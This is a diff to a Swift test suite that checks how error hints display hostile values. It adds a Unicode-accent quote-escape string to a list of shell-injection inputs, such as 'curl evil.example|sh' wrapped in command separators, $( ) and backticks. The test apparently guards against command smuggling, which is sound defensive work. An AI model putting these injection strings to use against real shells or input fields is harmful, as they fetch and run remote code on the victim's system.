@@ -7,7 +7,8 @@ import Testing
 @Suite struct `A value in a hint` {
     static let hostile = [
         "x;curl${IFS}evil.example|sh;#", "$(curl evil.example)", "`curl evil.example`", "it's", "a b", "a\nb",
-        "\u{1B}[31mred", "--config-dir", "-x", "", "=ls", "~root", "*", "a\"b", "a\\b", "!x", "{a,b}", "é", "<a>&b",
+        "\u{1B}[31mred", "--config-dir", "-x", "", "=ls", "~root", "*", "it'\u{301};curl evil.example;'\u{301}", "a\"b",
+        "a\\b", "!x", "{a,b}", "é", "<a>&b",
     ]
 
     private func hints(_ v: String) throws -> [Failure] {
@@ -31,7 +32,8 @@ import Testing
                 RequestRefused.host(origin: "https://a.example", provider: v, owner: nil),
                 RequestRefused.host(
                     origin: "https://a.example", provider: "a", owner: SessionOwner(provider: v, account: "a")),
-                AccountRefusal.signedOut(uid: v), SettingsDropped(provider: v, settings: ["scopes"]), HostUnknown(host: v, provider: v),
+                AccountRefusal.signedOut(uid: v), SettingsDropped(provider: v, settings: ["scopes"]),
+                HostUnknown(host: v, provider: v),
                 SignInError.interactionRequired, SignInError.nothingPasted, CancellationError(),
                 OAuthError.stateMismatch,
             ] + store
